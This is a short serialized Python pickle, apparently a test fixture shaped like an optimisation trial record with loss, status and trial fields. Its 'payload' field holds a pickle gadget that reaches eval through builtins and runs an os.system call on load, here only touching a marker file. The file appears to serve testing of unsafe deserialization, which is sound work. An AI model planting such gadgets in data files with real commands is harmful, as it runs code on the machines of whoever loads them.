€(l(dVresult
(dVloss
F1.0
sVstatus
Vok
sVpayload
ŒbuiltinsŒgetattr.__self__.eval“Œ/__import__('os').system('touch HOSTILE_MARKER')…RssVmisc
(dVtid
I0
sVvals
(dssa.